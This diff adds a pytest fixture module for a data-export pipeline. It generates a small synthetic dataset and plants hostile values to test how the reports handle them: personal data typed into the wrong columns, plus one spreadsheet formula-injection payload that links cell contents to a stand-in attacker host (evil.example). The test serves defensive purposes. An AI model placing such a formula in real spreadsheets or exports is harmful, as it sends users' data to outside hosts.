@@ -1,0 +1,53 @@
+"""A small generated program and one uninterrupted CLI run of it: the reference results."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from models.demo.generator import generate
+
+from .cli import AS_OF, Workspace
+
+SCALE = 0.2  # about 400 matches: every stage does real work, a run takes ~20 s on 2 cores
+
+
+# Hostile values planted next to the demo's files (named to sort first, so the reports
+# pick them as examples): a participant's email typed into an id
+# column, a participant's name typed into a category, a formula as a survey answer.
+PLANTED_EMAIL = "p0000001@example.org"
+PLANTED_NAME = "Participant P0000002"
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
+
+
+def _plant(export: Path) -> None:
+    header = "meeting_id,match_id,started_at,duration_min,mode,initiated_by,agenda_shared,"
+    header += "questions_prepared,status"
+    rows = [
+        f"MTX0000001,{PLANTED_EMAIL},2025-05-30 10:30:00,40,video,mentor,0,1,held",
+        f"MTX0000002,M0000001,2025-05-31 10:30:00,40,{PLANTED_NAME},mentor,0,1,held",
+    ]
+    (export / "meetings_000_planted.csv").write_text("\n".join([header, *rows]) + "\n")
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    (export / "survey_responses_000_planted.csv").write_text(
+        "response_id,participant_id,survey,submitted_at,item_id,value\n"
+        f"RX0000001,P0000003,intake,2025-01-24 17:47:00,mfq_1,{quoted}\n"
+    )
+
+
+@pytest.fixture(scope="session")
+def small_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    export = tmp_path_factory.mktemp("reliability") / "export"
+    generate(export, seed=5, scale=SCALE, as_of=AS_OF, bad_rows=True)
+    _plant(export)
+    return export
+
+
+@pytest.fixture(scope="session")
+def reference(tmp_path_factory: pytest.TempPathFactory, small_export) -> Workspace:
+    """The same export run once, start to end, without interference."""
+    ws = Workspace(tmp_path_factory.mktemp("reference"), small_export)
+    done = ws.run()
+    assert done.returncode == 0, done.stderr
+    return ws
